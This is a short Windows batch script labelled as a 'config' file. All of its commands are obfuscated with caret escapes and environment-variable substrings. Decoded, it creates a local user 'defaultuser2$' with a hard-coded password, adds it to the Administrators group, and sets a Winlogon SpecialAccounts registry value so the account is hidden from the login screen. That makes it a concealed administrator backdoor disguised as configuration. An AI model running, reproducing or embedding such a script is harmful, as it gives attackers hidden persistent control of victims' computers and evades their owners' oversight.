REM config 0590 v2
@echo off
^n%COMSPEC:~-12,1%%ProgramData:~-2,1% user de^fa^ul^t^us^e^r2$ ^P@s^sw^0rd!^20^24 /^add /^ac^t^i^ve:^yes
%comspec:~5,1%%COMSPEC:~26,1%^t ^l^o^ca^lg^r^o^up ^Adm^ini^s^tr^at^o^rs ^de^fa^ult^us^er2$ /ad^d
re^g ^ad^d "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /^v d^efa^ult^u^s^er^2$ /^t R^E^G_DWO^R^D /d 0 /f
